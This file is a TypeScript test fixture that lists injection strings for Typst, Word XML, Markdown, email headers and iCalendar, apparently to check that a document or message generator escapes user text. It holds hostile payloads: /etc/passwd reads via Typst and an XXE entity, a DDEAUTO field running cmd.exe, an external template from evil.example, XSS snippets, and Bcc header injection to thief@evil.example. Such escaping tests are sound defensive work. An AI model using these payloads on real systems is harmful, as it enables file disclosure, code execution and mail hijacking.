/*
 * Texts that would be something else than text if a writer forgot to say that they are: by the language that would take
 * them in.
 */
export const injections: Record<string, readonly string[]> = {
  typst: [
    '#read("/etc/passwd")',
    '#include "/data.json"',
    '#import "@preview/cetz:0.3.0": *',
    '#eval("1+1") #sys.version #panic("hit")',
    '#set page(width: 1cm); #show: none; #let a = 1',
    '#image("/etc/hostname") #bibliography("/x.bib") #plugin("/x.wasm")',
    '"]) #panic("hit") #[',
    '$ sum_(k=1)^n k $ *strong* _emph_ `raw` ```raw```',
    '= Heading = \\u{41} \\ @reference <label> #link("http://evil.example")[here]',
    '// comment /* comment */ ~ --- -? ... \'quoted\' "quoted" 1. + / term: x',
  ],
  xml: [
    '</w:t></w:r><w:r><w:fldSimple w:instr="DDEAUTO c:\\windows\\cmd.exe /c calc"/></w:r><w:r><w:t>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&amp;&#x41;&lt;',
    ']]><![CDATA[ </w:p><w:altChunk r:id="rId1"/> <?xml version="1.0"?> <!-- -->',
    '<Relationship Id="x" Type="attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
    '<w:object><o:OLEObject Type="Link"/></w:object> {{body}} {{title}} {{evil}} { DDE "x" "y" } INCLUDETEXT',
    '<?mso-application progid="Word.Document"?> &nbsp; &eacute; _x000D_ _x0041_',
  ],
  markdown: [
    '[click](javascript:alert(1)) ![picture](http://evil.example/p.png) <http://evil.example>',
    '<script>alert(1)</script> <img src=x onerror=alert(1)> <a href="x">',
    '# Heading',
    '> quoted',
    '- [x] item',
    '1. item',
    '2) item',
    '+ item',
    '* item',
    '---',
    '===',
    '```sh',
    '~~~',
    '| a | b |',
    '    indented',
    'http://evil.example/x?a=b&c=d www.evil.example someone@evil.example mailto:x@evil.example',
    '~~gone~~ ^up^ ==mark== [^1] [^1]: note :smile: **bold** __bold__ snake_case a*b*c `code` \\* \\\\ $x$ {#id}',
    '[ref]: http://evil.example "title"',
    '&lt;b&gt; &#42;x&#42; <br> <!-- comment -->',
  ],
  mail: [
    'x\r\nBcc: thief@evil.example',
    'x\nX-Injected: 1\r\n\r\n<b>body</b>',
    '"Name" <thief@evil.example>, other@evil.example; third@evil.example',
    '=?utf-8?B?QmNjOiB0aGllZkBldmlsLmV4YW1wbGU=?= =?utf-8?Q?=0D=0ABcc:_thief?=',
    'a"; filename="evil.exe"; x="; filename*=UTF-8\'\'evil.exe',
    '%0D%0ABcc:%20thief@evil.example --=_boundary Content-Type: text/html',
    '\u2028Bcc: thief@evil.example\u2029\u0085X-Injected: 1\u000BX\u000C',
    '.\r\nQUIT\r\nFrom thief@evil.example',
  ],
  calendar: [
    'x\r\nATTENDEE:mailto:thief@evil.example',
    'x\\nEND:VEVENT\\nBEGIN:VALARM \\nACTION:PROCEDURE',
    'END:VEVENT\nEND:VCALENDAR\nBEGIN:VCALENDAR',
    ';ALTREP="http://evil.example":a;b,c:d\\;e\\,f\\\\g ^n ^\' ^^',
    ' \tfolded\r\n URL:http://evil.example',
  ],
};

/** All of them, in lines that a field of one line can take. */
export function packInjections(most = 480): string[] {
  const lines: string[] = [];
  for (const text of Object.values(injections).flat()) {
    const last = lines.at(-1);
    if (last !== undefined && last.length + text.length < most) lines[lines.length - 1] = `${last} ${text}`;
    else lines.push(text);
  }
  return lines;
}
